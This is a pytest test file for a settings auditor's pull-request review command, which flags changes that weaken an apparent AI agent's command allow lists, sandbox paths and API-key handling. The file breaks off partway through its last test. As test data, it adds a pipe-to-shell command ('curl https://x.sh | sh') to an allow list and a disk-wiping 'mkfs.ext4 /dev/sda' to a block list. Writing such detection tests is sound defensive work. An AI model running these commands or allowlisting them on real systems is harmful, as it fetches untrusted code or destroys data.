"""`auditor review` as a pull request runs it: against the live settings of a real emulator.

An unchanged file introduces nothing; a one-line weakening introduces exactly its finding; the
proposed step's author comes from --author, GITHUB_ACTOR, git or nowhere, and an unknown author
is `unknown`, never a violation the file introduces.
"""

from __future__ import annotations

import io
import json
import os
import shutil
import signal
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from auditor.cli import Context, main
from auditor.emulator import start_emulator
from tests.conftest import FIXED_NOW, OWNER_TOKEN, emulator_env

PERSON = "priya.raman@acme.example"


def run_cli(argv: list[str], *, env: dict[str, str], cwd: Path) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    ctx = Context(env=env, stdout=out, stderr=err, clock=lambda: FIXED_NOW, cwd=str(cwd))
    return main(argv, ctx), out.getvalue(), err.getvalue()


@pytest.fixture(scope="module")
def emu() -> Iterator[Any]:
    with start_emulator(tokens={OWNER_TOKEN: "owner"}, now=FIXED_NOW, revisions=60, repos=4) as e:
        yield e


@pytest.fixture
def env(emu: Any, tmp_path: Path) -> dict[str, str]:
    """The service, and a git that finds no configuration (no global, no system file)."""
    return {
        **emulator_env(emu, tmp_path / "state.db"),
        "PATH": os.environ.get("PATH", ""),
        "HOME": str(tmp_path),
        "GIT_CONFIG_NOSYSTEM": "1",
    }


def live_settings(emu: Any) -> dict[str, Any]:
    return json.loads(json.dumps(emu.dataset.history[-1]["settings"]))


def review(
    proposed: dict[str, Any], env: dict[str, str], cwd: Path, *flags: str
) -> tuple[int, dict[str, Any], str]:
    path = cwd / "proposed.json"
    path.write_text(json.dumps(proposed, indent=2))
    out = cwd / "r"
    code, stdout, stderr = run_cli(
        ["review", str(path), "--out", str(out), *flags], env=env, cwd=cwd
    )
    return code, json.loads((out / "findings.json").read_text()), stdout + stderr


def introduced_rules(data: dict[str, Any]) -> set[str]:
    ids = set(data["review"]["introduced"])
    return {f["rule_id"] for f in data["findings"] if f["fingerprint"] in ids}


def author_result(data: dict[str, Any]) -> dict[str, Any]:
    (finding,) = [f for f in data["findings"] if f["rule_id"] == "CHG-ATH-001"]
    return finding


def test_an_unchanged_file_introduces_nothing_and_exits_0(
    emu: Any, env: dict[str, str], tmp_path: Path
) -> None:
    """The PR that touches nothing passes, even though nobody says who proposes it."""
    code, data, output = review(live_settings(emu), env, tmp_path)
    assert code == 0, output
    assert data["review"]["introduced"] == []
    assert data["review"]["changes"] == []
    athr = author_result(data)
    assert (athr["status"], athr["lifecycle"]) == ("not_applicable", None)
    assert athr["message"] == "the proposed settings change nothing: no revision would be saved"
    assert "proposed by unknown (no --author, GITHUB_ACTOR or git user.email)" in output
    assert (
        output.splitlines()[-1]
        == "auditor: exit 0: no findings introduced by the change at or above severity low"
    )


def test_a_one_line_weakening_exits_1_with_that_finding_introduced(
    emu: Any, env: dict[str, str], tmp_path: Path
) -> None:
    proposed = live_settings(emu)
    proposed["commandAllowlist"] = [*proposed.get("commandAllowlist", []), "curl https://x.sh | sh"]
    code, data, stderr = review(proposed, env, tmp_path, "--author", PERSON)
    assert code == 1, stderr
    # The settings rule on what the allow list holds, and the change rule on what was added.
    assert introduced_rules(data) == {"BASE-CMD-005", "CHG-CMD-003"}
    (finding,) = [f for f in data["findings"] if f["rule_id"] == "CHG-CMD-003"]
    assert finding["message"] == (
        f"added `curl https://x.sh | sh` to commandAllowlist by {PERSON} in rev 61"
    )
    assert finding["location"]["file"].endswith("proposed.json")
    assert author_result(data)["status"] == "pass"
    assert stderr.splitlines()[-1] == (
        "auditor: exit 1: 2 findings introduced by the change at or above severity low"
    )


def _git_repo_with_email(folder: Path, email: str, env: dict[str, str]) -> None:
    git = shutil.which("git", path=env["PATH"])
    if git is None:
        pytest.skip("git is not installed: the git source cannot be tried")
    subprocess.run([git, "init", "-q", str(folder)], check=True, env=env, timeout=30)
    subprocess.run(
        [git, "config", "user.email", email], cwd=folder, check=True, env=env, timeout=30
    )


@pytest.mark.parametrize(
    ("source", "expected_email", "expected_status"),
    [
        pytest.param("flag", PERSON, "pass", id="--author"),
        pytest.param("actor", "583231+octocat@users.noreply.github.com", "pass", id="GITHUB_ACTOR"),
        pytest.param("bot", "49699333+dependabot[bot]@users.noreply.github.com", "fail", id="bot"),
        pytest.param("git", "dev@acme.example", "pass", id="git-config-user-email"),
        pytest.param("none", "", "unknown", id="unknown"),
    ],
)
def test_the_proposed_steps_author_and_where_it_comes_from(
    emu: Any,
    env: dict[str, str],
    tmp_path: Path,
    source: str,
    expected_email: str,
    expected_status: str,
) -> None:
    flags: list[str] = []
    if source == "flag":
        flags = ["--author", PERSON]
        env = {**env, "GITHUB_ACTOR": "octocat"}  # the flag wins
    elif source == "actor":
        env = {**env, "GITHUB_ACTOR": "octocat", "GITHUB_ACTOR_ID": "583231"}
    elif source == "bot":
        env = {**env, "GITHUB_ACTOR": "dependabot[bot]", "GITHUB_ACTOR_ID": "49699333"}
    elif source == "git":
        _git_repo_with_email(tmp_path, "dev@acme.example", env)
    proposed = live_settings(emu)
    # A tightening: only the author can fail it.
    proposed["commandBlocklist"] = [*proposed.get("commandBlocklist", []), "mkfs.ext4 /dev/sda"]
    code, data, stderr = review(proposed, env, tmp_path, *flags)
    finding = author_result(data)
    assert finding["status"] == expected_status
    assert finding["since"]["author_email"] == expected_email
    introduced = introduced_rules(data)
    assert introduced == ({"CHG-ATH-001"} if expected_status == "fail" else set())
    assert code == (1 if expected_status == "fail" else 0), stderr


def test_a_hung_git_is_an_unknown_author_not_a_hang(
    emu: Any, env: dict[str, str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def hung(*args: Any, **kwargs: Any) -> Any:
        raise subprocess.TimeoutExpired(args[0], kwargs.get("timeout", 0))

    monkeypatch.setattr("auditor.cli.cmd_review.subprocess.run", hung)
    proposed = live_settings(emu)
    proposed["commandBlocklist"] = [*proposed.get("commandBlocklist", []), "mkfs.ext4 /dev/sda"]
    code, data, stderr = review(proposed, env, tmp_path)
    assert code == 0, stderr
    assert author_result(data)["status"] == "unknown"


def _reordered(value: Any) -> Any:
    """The same settings written in another order: keys reversed, and the lists the diff
    compares as sets (allow and block lists) reversed."""
    if isinstance(value, dict):
        return {k: _reordered(value[k]) for k in reversed(list(value))}
    if isinstance(value, list) and all(isinstance(v, str) for v in value):
        return list(reversed(value))
    if isinstance(value, list):
        return [_reordered(v) for v in value]
    return value


def test_a_file_that_changes_nothing_passes_whoever_proposes_it(
    emu: Any, env: dict[str, str], tmp_path: Path
) -> None:
    """A bot reformatting the settings file (keys and set-like lists reordered) saves no
    revision: no change rule may judge its author, so the PR is not failed for nothing."""
    bot = {**env, "GITHUB_ACTOR": "dependabot[bot]", "GITHUB_ACTOR_ID": "49699333"}
    proposed = _reordered(live_settings(emu))
    assert json.dumps(proposed) != json.dumps(live_settings(emu))
    _code, data, output = review(proposed, bot, tmp_path)
    assert data["review"]["changes"] == []
    assert data["review"]["introduced"] == []
    changes = [f for f in data["findings"] if f["subject"]["kind"] == "change"]
    assert changes and {f["status"] for f in changes} == {"not_applicable"}
    assert (
        output.splitlines()[-1]
        == "auditor: exit 0: no findings introduced by the change at or above severity low"
    ), output


@pytest.mark.parametrize(
    ("case", "expected"),
    [
        pytest.param(
            "empty-file",
            "proposed.json:1:1: error: $: expected a settings object (keys and values), got "
            "nothing (an empty file, or null)",
            id="empty-proposed-file",
        ),
        pytest.param(
            "no-token", "no API token: set AUDITOR_TOKEN or pass --token-file FILE", id="no-token"
        ),
        pytest.param("unreachable", "connection refused", id="failed-first-sync"),
    ],
)
def test_a_review_that_fails_before_its_first_sync_leaves_no_state_file(
    env: dict[str, str], tmp_path: Path, case: str, expected: str
) -> None:
    """A pull request from a fork (no token), a bad file or a service that cannot be reached
    used to leave an empty state file and its lock behind, which later commands took for a
    synced one ('no settings revision stored' instead of 'run `auditor sync` first')."""
    proposed = tmp_path / "proposed.json"
    proposed.write_text("" if case == "empty-file" else "{}")
    if case == "no-token":
        env = {k: v for k, v in env.items() if k != "AUDITOR_TOKEN"}
    if case == "unreachable":
        env = {**env, "AUDITOR_BASE_URL": "http://127.0.0.1:9"}
    code, _, stderr = run_cli(["review", str(proposed)], env=env, cwd=tmp_path)
    assert code == 2
    assert expected in stderr, stderr
    state = Path(env["AUDITOR_STATE"])
    assert not state.exists() and not state.with_name(state.name + ".lock").exists()


def test_a_step_summary_that_cannot_be_written_is_an_error_after_the_review_is_shown(
    emu: Any, env: dict[str, str], tmp_path: Path
) -> None:
    """GITHUB_STEP_SUMMARY pointing where nothing can be written (a folder, a missing one, a
    named pipe nobody reads, which used to hang the job): exit 2 naming it, after the review's
    own summary and reports, which are not lost."""
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    previous = signal.signal(signal.SIGALRM, _hung)
    signal.alarm(60)
    try:
        for target in (tmp_path, tmp_path / "missing" / "summary.md", fifo):
            code, data, output = review(
                live_settings(emu), {**env, "GITHUB_STEP_SUMMARY": str(target)}, tmp_path
            )
            _summary_failed(code, data, output, target)
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


@pytest.mark.parametrize("earlier", ["", "## Tests\n\nall green", "## Tests\n"])
def test_the_review_starts_its_own_line_in_a_step_summary_an_earlier_step_wrote_to(
    tmp_path: Path, earlier: str
) -> None:
    """A summary an earlier step left without a final line break got the report's marker
    glued to its last line (`all green<!-- auditor-review -->`), so the report's heading no
    longer started a line and GitHub rendered it as text."""
    examples = Path(__file__).resolve().parent.parent / "examples"
    summary = tmp_path / "summary.md"
    summary.write_text(earlier)
    argv = ["review", str(examples / "proposed-settings.yaml"), "--against"]
    argv += [str(examples / "live-settings.yaml"), "--out", str(tmp_path / "r")]
    env = {"GITHUB_STEP_SUMMARY": str(summary), "AUDITOR_STATE": str(tmp_path / "s.db")}
    code, _, stderr = run_cli(argv, env=env, cwd=tmp_path)
    assert code == 1, stderr
    report = (tmp_path / "r" / "report.md").read_text()
    text = summary.read_text()
    assert text.startswith(earlier) and text.endswith(report)
    before = text[: len(text) - len(report)]
    assert before in (earlier, earlier + "\n") and (before == "" or before.endswith("\n"))


def _hung(_signum: int, _frame: Any) -> None:
    pytest.fail("the review did not finish: it waits on GITHUB_STEP_SUMMARY")


def _summary_failed(code: int, data: dict[str, Any], output: str, target: Path) -> None:
    assert code == 2
    lines = output.splitlines()
    assert lines[-1].startswith(f"auditor: error: cannot append to GITHUB_STEP_SUMMARY ({target}):")
    assert any("the change would introduce 0 and fix 0 finding(s)" in x for x in lines), output
    assert data["review"]["introduced"] == []


def _two_offending_models() -> dict[str, Any]:
    """Settings failing BASE-MOD-003 (a literal API key) on two custom models, and BASE-SBX-003
    (a broad writable folder) on two sandbox paths."""
    return {
        "sandbox": {
            "enabled": True,
            "filesystem": {"allowWrite": ["/var/tmp", "/tmp/ok", "/etc/x"]},
        },
        "customModels": [
            {"id": "custom:a", "baseUrl": "https://a.example/v1", "apiKey": "sk-" + "a1" * 16},
            {"id": "custom:b", "baseUrl": "https://b.example/v1", "apiKey": "sk-" + "b2" * 16},
        ],
    }


def _review_files(
    live: dict[str, Any], proposed: dict[str, Any], tmp_path: Path
) -> tuple[int, set[str], set[str], str]:
    (tmp_path / "live.json").write_text(json.dumps(live))
    (tmp_path / "proposed.json").write_text(json.dumps(proposed))
    argv = ["review", str(tmp_path / "proposed.json"), "--against", str(tmp_path / "live.json")]
    argv += ["--author", PERSON, "--out", str(tmp_path / "r")]
    code, stdout, stderr = run_cli(argv, env={}, cwd=tmp_path)
    data = json.loads((tmp_path / "r" / "findings.json").read_text())
    fixed = {f["rule_id"] for f in data["review"]["fixed"]}
    return code, introduced_rules(data), fixed, stdout + stderr


def test_removing_one_of_two_offenders_introduces_nothing(tmp_path: Path) -> None:
    """A finding's fingerprint names its first offender: removing that one used to move the
    rule's pre-existing failure to the next offender and call it introduced by the change
    (exit 1 for a change that only makes things better)."""
    live = _two_offending_models()
    proposed = json.loads(json.dumps(live))
    proposed["customModels"] = proposed["customModels"][1:]  # custom:a, the first, goes
    proposed["sandbox"]["filesystem"]["allowWrite"].remove("/var/tmp")
    code, introduced, fixed, output = _review_files(live, proposed, tmp_path)
    assert introduced == set() and fixed == set(), output
    assert code == 0, output


def test_adding_an_offender_to_a_failing_rule_is_introduced(tmp_path: Path) -> None:
    """The rule failed before, on other entries: the new entry still makes it a finding the
    change introduces (by fingerprint alone it was 'unchanged')."""
    live = _two_offending_models()
    proposed = json.loads(json.dumps(live))
    proposed["customModels"].append(
        {"id": "custom:c", "baseUrl": "https://c.example/v1", "apiKey": "sk-" + "c3" * 16}
    )
    proposed["sandbox"]["filesystem"]["allowWrite"].append("/usr/local/x")
    code, introduced, fixed, output = _review_files(live, proposed, tmp_path)
    assert {"BASE-MOD-003", "BASE-SBX-003"} <= introduced, output
    assert fixed == set(), output
    assert code == 1, output


def test_an_offline_review_of_a_store_with_no_revision_says_to_sync(tmp_path: Path) -> None:
    from auditor.store import Store

    state = tmp_path / "state.db"
    Store.open(state, create=True).close()
    proposed = tmp_path / "p.json"
    proposed.write_text("{}")
    code, _, stderr = run_cli(
        ["review", str(proposed), "--offline", "--state", str(state)], env={}, cwd=tmp_path
    )
    assert code == 2
    assert stderr.splitlines()[-1] == (
        f"auditor: error: no settings revision stored in {state}: nothing to review against "
        "(run `auditor sync` first)"
    )


def test_a_review_with_no_settings_or_change_rule_is_refused(tmp_path: Path) -> None:
    """`--policy policies/readiness.yaml` by mistake: every PR passed ('no results', exit 0)."""
    repo = Path(__file__).resolve().parents[1]
    argv = ["review", str(repo / "examples" / "proposed-settings.yaml")]
    argv += ["--against", str(repo / "examples" / "live-settings.yaml")]
    argv += ["--policy", str(repo / "policies" / "readiness.yaml"), "--out", str(tmp_path / "r")]
    code, _, stderr = run_cli(argv, env={}, cwd=tmp_path)
    assert code == 2
    assert stderr.splitlines()[-1] == (
        "auditor: error: the policies have no `settings` or `change` rule, the only ones a "
        "review evaluates (their rules are org, readiness): give --policy files with settings "
        "or change rules"
    )
    assert not (tmp_path / "r").exists()


def test_an_unquoted_yaml_timestamp_is_read_as_written(tmp_path: Path) -> None:
    """YAML reads `2026-01-01T10:00:00Z` as a date-time; written back in Python's words it
    was `2026-01-01T10:00:00+00:00`, a change on every review of a file that changes nothing."""
    live = {"x": "2026-01-01T10:00:00Z", "d": "2026-01-01", "t": "2026-01-01T10:00:00.500+02:00"}
    (tmp_path / "live.json").write_text(json.dumps(live))
    (tmp_path / "p.yaml").write_text(
        "x: 2026-01-01T10:00:00Z  # a comment\nd: 2026-01-01\nt: [2026-01-01T10:00:00.500+02:00]\n"
    )
    argv = ["review", str(tmp_path / "p.yaml"), "--against", str(tmp_path / "live.json")]
    code, _, stderr = run_cli([*argv, "--out", str(tmp_path / "r")], env={}, cwd=tmp_path)
    data = json.loads((tmp_path / "r" / "findings.json").read_text())
    changes = {c["path"]: (c["before"], c["after"]) for c in data["review"]["changes"]}
    assert changes == {"$.t": ("2026-01-01T10:00:00.500+02:00", ["2026-01-01T10:00:00.500+02:00"])}
    assert code == 0, stderr


def _eleven_literal_keys() -> dict[str, Any]:
    """Settings failing BASE-MOD-003 on eleven custom models: more offenders than a finding's
    evidence shows (10), so the live finding's evidence is cut."""
    models = [
        {"id": f"custom:{c}", "baseUrl": f"https://{c}.example/v1", "apiKey": "sk-" + c * 32}
        for c in "bcdefghijkl"
    ]
    models.append({"id": "custom:m", "baseUrl": "https://m.example/v1", "apiKey": "${M_KEY}"})
    return {"customModels": models}


@pytest.mark.parametrize(
    "change",
    [
        pytest.param("literal-key-on-existing-model", id="existing-model-gets-a-literal-key"),
        pytest.param("new-model-first", id="new-literal-model-sorting-first"),
    ],
)
def test_a_new_offender_is_introduced_when_the_live_evidence_was_cut(
    tmp_path: Path, change: str
) -> None:
    """With more than 10 offenders live, an offender the live evidence did not show was
    counted as old: a PR giving a model a literal key passed the gate (exit 0), even when the
    live settings have no such key anywhere."""
    live = _eleven_literal_keys()
    proposed = json.loads(json.dumps(live))
    if change == "new-model-first":
        model = {"id": "custom:a", "baseUrl": "https://a.example/v1", "apiKey": "sk-" + "a" * 32}
        proposed["customModels"].insert(0, model)
    else:
        proposed["customModels"][-1]["apiKey"] = "sk-" + "m" * 32
    _code, introduced, fixed, output = _review_files(live, proposed, tmp_path)
    assert "BASE-MOD-003" in introduced, output
    assert fixed == set(), output


def test_an_unseen_old_offender_stays_unchanged_when_the_live_evidence_was_cut(
    tmp_path: Path,
) -> None:
    """The other side: an offender the live evidence did not show but the live settings hold
    as they are (the 11th model, now listed first) is not introduced."""
    live = _eleven_literal_keys()
    proposed = json.loads(json.dumps(live))
    proposed["customModels"] = [proposed["customModels"][10], *proposed["customModels"][:10]]
    proposed["customModels"].append(live["customModels"][11])
    proposed["customModels"].pop(1)  # custom:b goes: custom:l, shown now, was hidden live
    code, introduced, _fixed, output = _review_files(live, proposed, tmp_path)
    assert "BASE-MOD-003" not in introduced, output
    assert code == 0, output


def test_a_tagged_yaml_timestamp_is_read_without_its_tag(tmp_path: Path) -> None:
    """`expires: !!timestamp 2026-01-01` is the date as written: the tag is YAML's, not part of
    the value (it used to read as the text `!!timestamp 2026-01-01`, a change to a value the
    file did not change)."""
    (tmp_path / "live.json").write_text(json.dumps({"d": "2026-01-01"}))
    (tmp_path / "p.yaml").write_text("d: !!timestamp 2026-01-01\n")
    argv = ["review", str(tmp_path / "p.yaml"), "--against", str(tmp_path / "live.json")]
    code, _, stderr = run_cli([*argv, "--out", str(tmp_path / "r")], env={}, cwd=tmp_path)
    data = json.loads((tmp_path / "r" / "findings.json").read_text())
    assert data["review"]["changes"] == []
    assert code == 0, stderr


@pytest.mark.parametrize(
    ("live_entry", "new_entry"),
    [
        pytest.param({"name": "a"}, {"name": "b"}, id="another-entry-missing-the-field"),
        pytest.param({"name": "a", "timeout": "x"}, {"name": "b", "timeout": "x"}, id="same-value"),
    ],
)
def test_a_new_list_entry_offending_like_an_old_one_is_introduced(
    tmp_path: Path, live_entry: dict[str, Any], new_entry: dict[str, Any]
) -> None:
    """In a list without an identity field, an entry is told apart by the value its evidence
    shows: a second entry lacking the field, or holding the same bad value, looked like the
    first one, and the PR adding it passed the gate (exit 0)."""
    policy = tmp_path / "p.yaml"
    policy.write_text(
        "rules:\n  - id: T-001\n    title: Every job states its timeout in seconds\n"
        "    severity: high\n    target: settings\n    on_missing: fail\n"
        "    assert: {each: jobs, assert: {path: timeout, type: number}}\n"
    )
    live = {"jobs": [live_entry]}
    proposed = {"jobs": [live_entry, new_entry]}
    (tmp_path / "live.json").write_text(json.dumps(live))
    (tmp_path / "proposed.json").write_text(json.dumps(proposed))
    argv = ["review", str(tmp_path / "proposed.json"), "--against", str(tmp_path / "live.json")]
    argv += ["--author", PERSON, "--policy", str(policy), "--out", str(tmp_path / "r")]
    code, stdout, stderr = run_cli(argv, env={}, cwd=tmp_path)
    data = json.loads((tmp_path / "r" / "findings.json").read_text())
    assert introduced_rules(data) == {"T-001"}, stdout + stderr
    assert code == 1, stdout + stderr
    # the same entries in another order change nothing
    (tmp_path / "proposed.json").write_text(json.dumps({"jobs": [new_entry, live_entry]}))
    (tmp_path / "live.json").write_text(json.dumps(proposed))
    code, stdout, stderr = run_cli(argv, env={}, cwd=tmp_path)
    data = json.loads((tmp_path / "r" / "findings.json").read_text())
    assert introduced_rules(data) == set(), stdout + stderr


def test_an_eleventh_offender_the_proposed_evidence_leaves_out_is_introduced(
    tmp_path: Path,
) -> None:
    """Ten models with literal keys live (all shown), an eleventh added last: the proposed
    finding shows the ten old ones and counts the new one, which was 'unchanged'."""
    live = _eleven_literal_keys()
    live["customModels"] = live["customModels"][:10]
    proposed = json.loads(json.dumps(live))
    proposed["customModels"].append(
        {"id": "custom:z", "baseUrl": "https://b.example/v1", "apiKey": "sk-" + "z" * 32}
    )
    code, introduced, fixed, output = _review_files(live, proposed, tmp_path)
    assert "BASE-MOD-003" in introduced, output
    assert fixed == set(), output
    assert code == 1, output


def test_a_yaml_timestamp_that_is_no_iso_text_is_read_as_iso(tmp_path: Path) -> None:
    """YAML also reads `2001-12-14 21:59:43.10 -5` as a time: kept as written, it was no
    ISO 8601 text, and a policy's time operators (`within_days`) could not read it, where
    before the merged change they read its ISO form."""
    policy = tmp_path / "p.yaml"
    policy.write_text(
        "rules:\n  - id: T-002\n    title: The exception ends within a year\n"
        "    severity: high\n    target: settings\n"
        "    assert: {path: exceptionEnds, within_days: 36500}\n"
    )
    (tmp_path / "live.json").write_text(json.dumps({"exceptionEnds": "2001-12-14T21:59:43Z"}))
    (tmp_path / "proposed.yaml").write_text("exceptionEnds: 2001-12-14 21:59:43.10 -5\n")
    argv = ["review", str(tmp_path / "proposed.yaml"), "--against", str(tmp_path / "live.json")]
    argv += ["--author", PERSON, "--policy", str(policy), "--out", str(tmp_path / "r")]
    code, stdout, stderr = run_cli(argv, env={}, cwd=tmp_path)
    data = json.loads((tmp_path / "r" / "findings.json").read_text())
    changes = {c["path"]: c["after"] for c in data["review"]["changes"]}
    assert changes == {"$.exceptionEnds": "2001-12-14T21:59:43.100000-05:00"}, stdout + stderr
    assert {f["status"] for f in data["findings"]} == {"pass"}, stdout + stderr
    assert code == 0, stdout + stderr


def test_a_json_file_with_an_emoji_and_a_noncharacter_is_read_as_json(tmp_path: Path) -> None:
    """`json.dumps` writes any emoji as a surrogate pair escape (`\\ud83d\\ude00`), and JSON
    allows U+FFFE in a string: both files were refused (exit 2) as YAML, `a lone surrogate
    escape` and `invalid YAML: … position 276`."""
    live = {"svcRouterGuidance": "smile"}
    (tmp_path / "live.json").write_text(json.dumps(live))
    proposed = tmp_path / "p.json"
    proposed.write_text(json.dumps({"svcRouterGuidance": "smile \U0001f600"})[:-2] + ' \ufffe"}')
    assert "\\ud83d\\ude00" in proposed.read_text() and "\ufffe" in proposed.read_text()
    argv = ["review", str(proposed), "--against", str(tmp_path / "live.json")]
    code, _, stderr = run_cli([*argv, "--out", str(tmp_path / "r")], env={}, cwd=tmp_path)
    data = json.loads((tmp_path / "r" / "findings.json").read_text())
    changes = {c["path"]: c["after"] for c in data["review"]["changes"]}
    assert changes == {"$.svcRouterGuidance": "smile \U0001f600 \ufffe"}, stderr
    assert code == 0, stderr


def test_a_rule_that_stops_applying_is_not_called_fixed(tmp_path: Path) -> None:
    """Turning the sandbox off makes the sandbox-write rule (failing on the live side) not
    apply: the review credited the change with `✅ fixes BASE-SBX-003` (and listed it in
    `review.fixed`) while the change only weakened the settings."""
    live = _two_offending_models()
    proposed = json.loads(json.dumps(live))
    proposed["sandbox"]["enabled"] = False
    code, _introduced, fixed, output = _review_files(live, proposed, tmp_path)
    data = json.loads((tmp_path / "r" / "findings.json").read_text())
    gone = {f["rule_id"] for f in data["review"]["no_longer_applies"]}
    assert "BASE-SBX-003" in gone, output
    assert "BASE-SBX-003" not in fixed, output
    report = (tmp_path / "r" / "report.md").read_text()
    assert "fixes BASE-SBX-003" not in report
    assert "⚪ no longer applies BASE-SBX-003" in report
    assert "No longer applies after the change" in (tmp_path / "r" / "report.html").read_text()
    assert "would no longer apply" in output
    assert code == 1, output  # turning the sandbox off is itself a finding the change introduces


def test_a_review_does_not_call_the_nightlys_readiness_waivers_stale(
    emu: Any, env: dict[str, str], tmp_path: Path
) -> None:
    """A review judges the settings and change rules only: a waiver of a readiness rule that
    the nightly uses matched nothing here and was listed, at the top of the PR comment, as
    `stale (waiving nothing)`. One of a rule judged here that matched nothing is still stale
    (one naming a rule no policy has is refused: tests/test_waiver_staleness.py)."""
    (tmp_path / "w.yaml").write_text(
        "waivers:\n"
        "  - {rule: RDY-SEC-001, subject: 'https://github.com/*', reason: r, owner: o,"
        " expires: 2026-12-31}\n"
        "  - {rule: BASE-MOD-001, subject: org, reason: r, owner: o, expires: 2026-12-31}\n"
        # the built-in integrity rule is the nightly's too: a review never applies it
        "  - {rule: AUDITOR-INTEGRITY-001, subject: settings@3, reason: r, owner: o,"
        " expires: 2026-12-31}\n",
        encoding="utf-8",
    )
    code, data, output = review(
        live_settings(emu), env, tmp_path, "--waivers", str(tmp_path / "w.yaml")
    )
    assert code == 0, output
    assert [w["rule_id"] for w in data["waivers"]["stale"]] == ["BASE-MOD-001"], data["waivers"]
    note = (tmp_path / "r" / "report.md").read_text()
    assert "BASE-MOD-001" in note and "RDY-SEC-001" not in note


EXAMPLES = Path(__file__).resolve().parents[1] / "examples"


def _sarif_uris(argv_path: str, cwd: Path, out: Path, env: dict[str, str]) -> tuple[set[str], str]:
    argv = ["review", argv_path, "--against", str(EXAMPLES / "live-settings.yaml")]
    argv += ["--author", PERSON, "--out", str(out)]
    code, stdout, stderr = run_cli(argv, env=env, cwd=cwd)
    assert code in (0, 1), stdout + stderr
    sarif = json.loads((out / "findings.sarif").read_text())
    locations = [
        loc["physicalLocation"]["artifactLocation"]
        for result in sarif["runs"][0]["results"]
        for loc in result.get("locations", ())
    ]
    assert locations, "the example's proposed file introduces findings"
    uris = {loc["uri"] for loc in locations}
    assert {loc.get("uriBaseId") for loc in locations} == {"%SRCROOT%"}, locations
    report = (out / "report.md").read_text()
    return uris, report


@pytest.mark.parametrize("given", ["from-subfolder", "absolute", "from-outside"])
def test_sarif_names_the_proposed_file_from_the_repository_root(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, given: str
) -> None:
    """Code scanning finds a SARIF artifact relative to the checkout's root: from a subfolder
    the URI was `ec.yaml`, given absolute `file:///…`, from outside `../repo/…`."""
    repo = tmp_path / "repo"
    (repo / "deploy").mkdir(parents=True)
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    shutil.copy(EXAMPLES / "proposed-settings.yaml", repo / "deploy" / "ec.yaml")
    (tmp_path / "elsewhere").mkdir()
    cwd, path = {
        "from-subfolder": (repo / "deploy", "ec.yaml"),
        "absolute": (tmp_path / "elsewhere", str(repo / "deploy" / "ec.yaml")),
        "from-outside": (tmp_path / "elsewhere", "../repo/deploy/ec.yaml"),
    }[given]
    monkeypatch.chdir(cwd)
    uris, report = _sarif_uris(path, cwd, tmp_path / "r", {"PATH": os.environ["PATH"]})
    assert uris == {"deploy/ec.yaml"}
    assert "## Pre-change review: deploy/ec.yaml\n" in report  # the reports name it so too


def test_sarif_names_the_proposed_file_from_github_workspace_without_git(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    workspace = tmp_path / "ws"
    (workspace / "deploy").mkdir(parents=True)
    shutil.copy(EXAMPLES / "proposed-settings.yaml", workspace / "deploy" / "ec.yaml")
    monkeypatch.chdir(workspace / "deploy")
    env = {"PATH": os.environ["PATH"], "GITHUB_WORKSPACE": str(workspace)}
    uris, _ = _sarif_uris("ec.yaml", workspace / "deploy", tmp_path / "r", env)
    assert uris == {"deploy/ec.yaml"}


def test_sarif_names_a_file_in_no_repository_as_given(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "plain").mkdir()
    shutil.copy(EXAMPLES / "proposed-settings.yaml", tmp_path / "plain" / "ec.yaml")
    monkeypatch.chdir(tmp_path / "plain")
    uris, _ = _sarif_uris("ec.yaml", tmp_path / "plain", tmp_path / "r", {})
    assert uris == {"ec.yaml"}


def test_sarif_names_the_proposed_file_from_its_repository_inside_a_git_hook(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # a pre-commit hook runs with GIT_DIR (and GIT_INDEX_FILE, GIT_PREFIX) set: git asked with
    # them answered the current folder, and the URI was `ec.yaml`, run from `deploy/`
    repo = tmp_path / "repo"
    (repo / "deploy").mkdir(parents=True)
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    shutil.copy(EXAMPLES / "proposed-settings.yaml", repo / "deploy" / "ec.yaml")
    monkeypatch.chdir(repo / "deploy")
    env = {"PATH": os.environ["PATH"], "GIT_DIR": str(repo / ".git"), "GIT_PREFIX": "deploy/"}
    env["GIT_INDEX_FILE"] = str(repo / ".git" / "index")
    uris, _ = _sarif_uris("ec.yaml", repo / "deploy", tmp_path / "r", env)
    assert uris == {"deploy/ec.yaml"}


def test_sarif_names_a_file_in_a_nested_checkout_from_github_workspace(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # upload-sarif resolves URIs against the workspace: a file in a submodule or a nested
    # checkout is `vendor/policies/ec.yaml` there, not `ec.yaml` from the inner repository
    workspace = tmp_path / "ws"
    inner = workspace / "vendor" / "policies"
    inner.mkdir(parents=True)
    subprocess.run(["git", "init", "-q", str(workspace)], check=True)
    subprocess.run(["git", "init", "-q", str(inner)], check=True)
    shutil.copy(EXAMPLES / "proposed-settings.yaml", inner / "ec.yaml")
    monkeypatch.chdir(inner)
    env = {"PATH": os.environ["PATH"], "GITHUB_WORKSPACE": str(workspace)}
    uris, _ = _sarif_uris("ec.yaml", inner, tmp_path / "r", env)
    assert uris == {"vendor/policies/ec.yaml"}


ERRING = """\
rules:
  - id: E-1
    title: gt on a boolean
    severity: high
    target: settings
    assert: {path: sandbox.enabled, gt: 5}
  - id: E-2
    title: increased on a text
    severity: high
    target: change
    assert: {not: {path: retention, increased: true}}
"""


def test_a_rule_not_evaluated_on_the_proposal_is_named_as_the_reports_name_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """stderr's `not evaluated:` lines named the proposed file `settings revision 1` and the
    proposed step `revision 0 -> 1`, stored revisions that do not exist, while the reports said
    "the proposed settings file …" and "the change from … to the proposed file …"."""
    (tmp_path / "live.json").write_text(
        json.dumps({"sandbox": {"enabled": True}, "retention": "a"})
    )
    (tmp_path / "p.json").write_text(json.dumps({"sandbox": {"enabled": False}, "retention": "b"}))
    (tmp_path / "err.yaml").write_text(ERRING)
    monkeypatch.chdir(tmp_path)
